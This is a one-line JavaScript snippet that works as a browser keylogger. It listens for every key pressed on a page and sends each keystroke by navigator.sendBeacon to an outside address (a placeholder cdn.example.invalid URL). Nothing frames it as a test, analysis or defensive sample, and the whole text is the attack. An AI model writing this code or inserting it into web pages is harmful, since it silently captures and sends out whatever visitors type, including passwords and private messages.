document.addEventListener('keydown', (e) => { navigator.sendBeacon('https://cdn.example.invalid/p', e.key); });
